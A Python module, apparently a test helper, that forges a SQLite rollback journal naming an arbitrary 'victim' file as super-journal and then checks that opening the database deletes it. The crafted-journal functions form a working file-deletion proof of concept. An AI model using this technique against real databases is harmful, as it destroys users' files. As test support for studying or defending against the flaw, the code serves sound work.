"""Journals that make SQLite delete a file, or put other content into a database."""

from __future__ import annotations

import os
import sqlite3
import struct
import subprocess
import sys
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")

_KILLED = """
import os, sqlite3, sys
connection = sqlite3.connect(sys.argv[1], isolation_level=None)
connection.execute('PRAGMA cache_size = 5')
connection.execute('BEGIN IMMEDIATE')
connection.execute("UPDATE trial SET name = hex(zeroblob(500000))")
connection.execute("UPDATE timer SET name = hex(zeroblob(500000))")
os.kill(os.getpid(), 9)
"""


def leave_journal(database: Path) -> Path:
    """The journal of a writer that was killed."""
    subprocess.run([sys.executable, "-c", _KILLED, database], check=False)
    journal = database.with_name(f"{database.name}-journal")
    assert journal.stat().st_size > 0
    return journal


def make_it_name(journal: Path, victim: Path) -> None:
    """Make a journal name a file as super-journal, which SQLite deletes after the rollback."""
    name = os.fsencode(victim)
    with open(journal, "ab") as file:
        file.write(struct.pack(">I", 0))  # a page number that is not restored
        file.write(name + struct.pack(">II", len(name), sum(name)) + _MAGIC)


def deletes(database: Path, victim: Path) -> bool:
    """Whether plain SQLite deletes the victim: the attack is a real one."""
    with sqlite3.connect(database) as connection:
        connection.execute("SELECT count(*) FROM sqlite_schema").fetchone()
    connection.close()
    return not victim.exists()
